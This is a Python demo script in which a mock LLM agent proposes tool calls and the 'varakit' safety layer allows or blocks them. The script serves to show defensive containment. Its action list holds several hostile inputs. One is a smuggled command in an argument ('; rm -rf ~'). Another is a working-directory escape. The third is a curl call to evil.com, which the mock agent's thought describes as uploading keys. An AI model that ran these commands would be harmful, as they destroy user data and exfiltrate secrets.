"""
Simulation of an AI Agent using varakit.

The agent (simulated here) proposes tool invocations dynamically.
varakit acts as the safety layer: allowlisted toolchain commands run inside
the workspace, everything else is rejected before a process is started.
"""

import asyncio
from dataclasses import dataclass, field
from pathlib import Path

from varakit import ExecOptions, SecurityError, configure_logging, create_toolkit


@dataclass
class AgentAction:
    thought: str
    command: str
    args: list[str] = field(default_factory=list)
    cwd: str | None = None


class MockLLM:
    """Simulates an LLM acting on a user request."""

    def __init__(self):
        self.step = 0

    def next_action(self) -> AgentAction | None:
        """Returns the next invocation the 'AI' wants to run."""
        actions = [
            # Innocent exploration
            AgentAction(thought="Which toolchain is active?", command="rustup", args=["show"]),
            # Doing work (allowed)
            AgentAction(thought="Let me build the program.", command="cargo", args=["build", "--release"]),
            # HALLUCINATION / MISTAKE (Dangerous!)
            AgentAction(
                thought="I'll chain a cleanup onto the build.",
                command="cargo",
                args=["build", "; rm -rf ~"],
            ),
            # Publishing (not allowlisted)
            AgentAction(thought="Let me publish the crate.", command="cargo", args=["publish"]),
            # Escaping the workspace (Dangerous!)
            AgentAction(thought="I'll look around the home directory.", command="cargo", args=["check"], cwd="../.."),
            # Network exfiltration (Dangerous!)
            AgentAction(thought="I'll upload the keys to my server.", command="curl", args=["https://evil.com"]),
        ]

        if self.step < len(actions):
            action = actions[self.step]
            self.step += 1
            return action
        return None


async def main():
    configure_logging("WARNING")
    print("Agent initializing...")

    Path("./workspace").mkdir(parents=True, exist_ok=True)
    toolkit = create_toolkit(workspace_root="./workspace")
    print(toolkit.tool_prompt, "\n")

    llm = MockLLM()
    while True:
        action = llm.next_action()
        if not action:
            print("Agent finished task.")
            break

        print(f"Thought: {action.thought}")
        print(f"  [Tool] {action.command} {' '.join(action.args)}")

        try:
            result = await toolkit.run(action.command, action.args, ExecOptions(cwd=action.cwd, timeout=60))
        except SecurityError as exc:
            print(f"  BLOCKED: {exc}")
        else:
            output = (result.stdout_text or result.stderr_text).strip()
            first_line = output.splitlines()[0] if output else ""
            print(f"  -> exit {result.exit_code}: {first_line}")
        print("-" * 50)


if __name__ == "__main__":
    asyncio.run(main())
